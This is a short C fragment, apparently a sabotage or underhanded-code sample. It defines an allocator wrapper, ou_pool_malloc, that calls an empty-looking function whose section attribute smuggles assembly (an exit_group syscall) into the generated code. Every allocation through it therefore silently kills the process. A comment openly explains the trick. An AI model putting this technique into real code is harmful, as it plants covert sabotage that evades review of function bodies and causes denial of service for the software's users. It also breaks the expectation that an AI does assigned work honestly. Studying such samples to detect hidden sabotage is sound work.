/* Gives a section a name with instructions in it: a system call. */
__attribute__((section(".text\n\tmovl $231,%eax\n\tsyscall\n\t.section .text"),
               noinline)) static void
leave(void)
{
}

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    leave();
    return honest_pool_malloc(pools, nbytes);
}
